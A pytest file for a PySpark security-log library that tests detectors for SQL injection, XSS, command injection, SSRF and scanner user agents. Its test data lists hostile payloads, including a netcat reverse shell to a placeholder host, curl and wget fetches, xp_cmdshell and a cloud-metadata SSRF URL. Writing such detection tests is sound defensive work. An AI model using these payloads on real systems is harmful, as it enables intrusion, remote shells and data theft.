"""Detectors on plain words that look like attacks, on each kind of sign, and on what decoding shows."""

from __future__ import annotations

import base64
import json

import pytest
from pyspark.sql import functions as F

from vigilog.functions import decode, signatures

PLAIN = [
    "q=user id please", "q=team id", "comment=i <b>like</b> it", "/usr/guide/page", "q=a > b", "q=select a gift from our store", "q=order by phone", "q=group by age", "q=create table reservation",
    "q=update your profile and set a password", "q=case when it rains then stay", "q=I like (this) or (that)", "see `code` in docs", "the system(s) and more", "; who knows", "dogs; cat food",
    "delete from the list", "a=1&id=5&host=x&type=2", "select one, then two", "in 2010 and people like tea", "year 1990 or later", "waiting for 7 or more", "the union of teams", "drop the table off at noon", "metadata of the file", "https://example.org/a?b=c", "version 127.5",
]
ATTACKS = {
    "SQLi": ["1' and sleep(5)#", "x') or ('1'='1", "1; drop table users--", "1 union/**/all/**/select null,null", "id=1 order by 12--", "'; exec xp_cmdshell('x')", "1 procedure analyse(extractvalue(1,2))", "select a,b from t where 1=1", "admin'--", "1 or 7=7"],
    "XSS": ["<form action=//h>", "<style>a</style>", "mocha:x", "atob('eA==')", "new Function('x')()", "\"><svg onload=f()>", "\" autofocus onfocus=f() x=\"", "<a href=vbscript:x>", "' onmouseover='f()", "&lt;script&gt;f()&lt;/script&gt;"],
    "RCE": ["x;id", "x| nc -e /bin/sh h 80", "$(curl h)", "a && b", "; cat /etc/hosts.deny", "& type c:\\boot.ini", "x\nwget -q h", "python3 -c 'x'", "|/bin/ls", "> /tmp/x.sh"],
    "SSRF": ["u=http://0x7f.1/", "u=http://0177.1/", "u=http://2130706433/", "u=http://[::1]:80/", "u=gopher://h", "u=http://169.254.169.254/latest/meta-data", "u=//localhost:8080", "smb://h/s"],
}


def test_plain_words_are_no_attacks(spark):
    hits = spark.createDataFrame([(p,) for p in PLAIN], "p string").select("p", *(test(F.col("p")).alias(n) for n, test in signatures.DETECTORS.items())).collect()
    assert {r["p"]: [n for n in signatures.DETECTORS if r[n]] for r in hits if any(r[n] for n in signatures.DETECTORS)} == {}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_kind_of_sign(spark, name):
    df = spark.createDataFrame([(p,) for p in ATTACKS[name]], "p string")
    assert [r["p"] for r in df.filter(~signatures.DETECTORS[name](F.col("p"))).collect()] == []


def test_gates_let_every_sign_through(spark):
    """A gate never hides what the patterns would find."""
    from vigilog.plans.signature_queries import PLANTED

    texts = [p for ps in ATTACKS.values() for p in ps] + [p for p, _ in PLANTED] + PLAIN
    df = spark.createDataFrame([(p.lower(),) for p in texts], "p string")
    same = tuple(signatures.SIGNATURES[:-1]) + (signatures.SIGNATURES[-1],)
    own = [list(x) for x in same]  # a table of one's own, which is searched without gates
    for name in signatures.GATES:
        gated, whole = signatures._matches(F.col("p"), name), signatures._matches(F.col("p"), name, own)
        assert df.filter(gated != whole).count() == 0, name


def test_texts_without_what_a_pattern_needs_are_not_searched(spark):
    """Lines of plain prose have nothing that any row needs; signs are found at the edges of lines and after odd white space all the same."""
    prose = "the garden is open.\nnobody asked why - and that was fine.\n" * 20
    for name, needs in signatures.GATES.items():
        assert len(needs) == sum(row[0] == name for row in signatures.SIGNATURES)
        assert not any(need in prose for row in needs for need in row if need.strip(" ") != "-"), name
    kept = [("SQLi", "x' or\t\n 1=1"), ("SQLi", "union\x0b\fselect a"), ("RCE", "x\ncat\t-n y"), ("RCE", "x\rhead ~/y"), ("RCE", "wget${ifs}x;id"), ("XSS", "<\x0bs cript\0>"), ("XSS", "<img\r\nsrc=x\fonerror=y>")]
    df = spark.createDataFrame(kept, "n string, p string")
    assert [tuple(r) for r in df.collect() if not df.filter(F.col("p") == r["p"]).select(signatures.DETECTORS[r["n"]](F.col("p"))).first()[0]] == []


def test_agents(spark):
    known = {"okhttp/4.9": False, "PHP developer toolbar Mozilla/5.0": False, "Mozilla/5.0 (X11) Gecko Firefox/1": False, "curl/8.1": True, "Wget/1.2": True, "Nmap Scripting Engine": True, "Mozilla/5.0 sqlmap/1.7": True, "Mozilla/5.0 (compatible; bingbot/2.0)": False, "Java/17": True, "Javanese reader": False}
    df = spark.createDataFrame(list(known.items()), "p string, t boolean")
    assert [r["p"] for r in df.filter(signatures.detect_scanner_ua(F.col("p")) != F.col("t")).collect()] == []


def test_fragments_are_read_by_their_ascii_part(spark):
    array = base64.b64encode(json.dumps(["cat /etc/passwd"]).encode()).decode().rstrip("=")
    mixed = base64.b64encode("naïve ünion select é".encode("latin-1") + b" from users where").decode()
    texts = {"array": f"x={array}", "mixed": f"x={mixed}", "hex": "x=0x756e696f6e2073656c656374", "noise": "x=0x7f000001", "plain": "x=WyJ"}
    found = {r["k"]: r["p"] for r in spark.createDataFrame(list(texts.items()), "k string, t string").select("k", decode.normalize_payload(F.col("t"), sanitize=False).alias("p")).collect()}
    assert "cat /etc/passwd" in found["array"] and "nave nion select" in found["mixed"] and "from users where" in found["mixed"]
    assert "union select" in found["hex"] and found["noise"] == "x=0x7f000001" and found["plain"] == "x=wyj"


def test_windows_count_without_expanding(spark, tmp_path):
    """No Expand in the batch plan; the stream's windows over several batches are those of the batch."""
    from tests.conftest import SF
    from vigilog.operators.events import DIFFERENT
    from vigilog.plans.registry import load
    from vigilog.streaming import jobs

    plan = load()["a1_ueba_window_features"](spark, SF)._jdf.queryExecution().toString()
    assert "Expand" not in plan and "distinct_files_accessed" in plan
    rows = [(i, 4624 if i % 3 else 4688, f"u{i % 2}", f"f{i % 7}", "p" if i % 2 else "", f"q{i % 3}", f"10.0.0.{i % 4}", f"par{i % 5}", "", 1_700_000_000 + i * 60) for i in range(400)]
    names = "event_id long, EventID int, u string, ObjectName string, ProcessName string, NewProcessName string, IpAddress string, ParentProcessName string, ShareName string, at long"
    for k in range(4):
        spark.createDataFrame(rows[k::4] if k < 2 else rows[k::4], names).withColumn("ts", F.timestamp_seconds("at")).coalesce(1).write.parquet(f"{tmp_path}/in/{k}")
    whole = spark.read.parquet(f"{tmp_path}/in/*")
    stream = spark.readStream.schema(whole.schema).option("maxFilesPerTrigger", 1).parquet(f"{tmp_path}/in/*")
    got = jobs.run_available(jobs.window_stream(stream, "u", "ts", "1 hour", "10 hours"), f"file://{tmp_path}/run")
    assert got.count() == 0 or set(DIFFERENT.values()) <= set(got.columns)
    late = rows[-1][:-1] + (rows[-1][-1] + 100_000,)
    spark.createDataFrame([late], names).withColumn("ts", F.timestamp_seconds("at")).coalesce(1).write.parquet(f"{tmp_path}/in/5")
    got = jobs.run_available(jobs.window_stream(stream, "u", "ts", "1 hour", "10 hours"), f"file://{tmp_path}/run")
    seen = {(r["user"], r["window_start"]): (r["total_events"], *(r[c] for c in DIFFERENT.values())) for r in got.collect()}
    expected: dict = {}
    for i, eid, u, obj, p, q, ip, par, share, at in rows:
        own = expected.setdefault((u, at // 3600), (set(), set(), set(), set(), set(), set()))
        own[0].add(i)
        own[1].add(obj)
        own[2].update(x for x in (p, q) if x)
        if eid == 4624:
            own[3].add(ip)
        if eid == 4688:
            own[4].add(par)
    assert {(u, int(w.timestamp()) // 3600): v for (u, w), v in seen.items()} == {k: tuple(map(len, v)) for k, v in expected.items()}
